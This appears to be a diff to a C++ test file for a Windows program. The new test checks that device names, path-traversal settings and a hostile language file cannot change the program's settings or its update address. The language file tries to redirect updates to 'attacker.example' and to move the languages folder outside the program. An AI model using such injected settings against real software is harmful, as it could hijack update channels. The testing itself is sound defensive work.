@@ -4,14 +4,21 @@
 
 #include <shlobj.h>
 
+#include <utility>
+#include <vector>
+
 #include "mainform_win/AppDriver_win.h"
+#include "online_win/LoopbackServer_win.h"
 
 namespace tallow::testing {
 namespace {
 
 // A copy of the program folder in bin\<name>\ whose settings live in their own
-// folder <name> and whose setting "Language" is `language`.
-std::string ScratchProgram(const std::string& name, const std::string& language) {
+// folder <name> and whose setting "Language" is `language`; `more` are further
+// name=value settings of its const.dat.
+std::string ScratchProgram(const std::string& name,
+                           const std::string& language,
+                           const std::vector<std::pair<std::string, std::string>>& more = {}) {
     const std::string bin = BinDir();
     const std::string dir = bin + name + "\\";
     for (const char* sub : {"", "res", "langs"}) {
@@ -24,6 +31,9 @@ std::string ScratchProgram(const std::string& name, const std::string& language)
     const std::string constFile = dir + "const.dat";
     WritePrivateProfileStringA("setting", "App.ConfigPath", name.c_str(), constFile.c_str());
     WritePrivateProfileStringA("setting", "Language", language.c_str(), constFile.c_str());
+    for (const auto& [key, value] : more) {
+        WritePrivateProfileStringA("setting", key.c_str(), value.c_str(), constFile.c_str());
+    }
     return dir + "tallowmere.exe";
 }
 
@@ -104,6 +114,51 @@ TEST(LanguageTest, MissingLanguageFileFallsBackToEnglishAndStoresIt) {
         << "the built-in texts, not a language file";
     EXPECT_EQ(StoredSetting("lang_missing", "Language"), "English");
     app.Close();
+}
+
+// Names from the settings that point at a device or out of the program folder,
+// and a language file that names the engine's settings lists: the program
+// starts, stores the fallbacks, translates, and asks its update address only.
+TEST(LanguageTest, UntrustedNamesAndLanguageFilesNeitherStopTheProgramNorChangeItsSettings) {
+    {
+        AppProcess app(ScratchProgram("lang_device", "COM1", {{"Skin", "..\\..\\x"}, {"Path.Skins", "C:\\"}}));
+        ASSERT_TRUE(app.Started());
+        HWND main = app.MainWindow();
+        ASSERT_NE(main, nullptr) << "the serial port must not hold the start";
+        EXPECT_TRUE(WaitUntil([&] { return SendRegistered(main, "CL IfBusy") == 0; }));
+        EXPECT_NE(FindChild(main, "TallowButton", "Clear Now"), nullptr);
+        app.Close();
+        EXPECT_EQ(StoredSetting("lang_device", "Language"), "English");
+        EXPECT_EQ(StoredSetting("lang_device", "Skin"), "Default");
+    }
+
+    TLoopbackServer server;
+    TScopedSystemProxy proxy(server);  // every request of the program reaches the server
+    const std::string exe =
+        ScratchProgram("lang_hostile", "Hostile", {{"Update.BeginAuto", "1"}, {"Update.Days", "0"}});
+    const std::string lan = exe.substr(0, exe.rfind('\\') + 1) + "langs\\Hostile.lan";
+    const char hostile[] =
+        "[TfrmMain]\r\n"
+        "btnClearAll.Caption=Weg damit\r\n"
+        "engine1.SettingOverwrite=URL.Update=http://attacker.example/u/<BR>Update.BeginAuto=1<BR>Update.Days=0\r\n"
+        "engine1.SettingDefault=Path.Languages=..\\..\\outside\r\n";
+    HANDLE file = CreateFileA(lan.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
+    DWORD written = 0;
+    WriteFile(file, hostile, sizeof hostile - 1, &written, nullptr);
+    CloseHandle(file);
+
+    AppProcess app(exe);
+    ASSERT_TRUE(app.Started());
+    HWND main = app.MainWindow();
+    ASSERT_NE(main, nullptr);
+    EXPECT_TRUE(WaitUntil([&] { return FindChild(main, "TallowButton", "Weg damit") != nullptr; }))
+        << "the language file translates";
+    ASSERT_TRUE(WaitUntil([&] { return !server.Requests().empty(); })) << "the due update check asks";
+    const std::string request = server.Requests()[0].requestLine;
+    EXPECT_NE(request.find("update.tallowmere.example/update/"), std::string::npos) << request;
+    EXPECT_EQ(request.find("attacker"), std::string::npos) << request;
+    app.Close();
+    EXPECT_EQ(StoredSetting("lang_hostile", "Language"), "Hostile");
 }
 
 }  // namespace
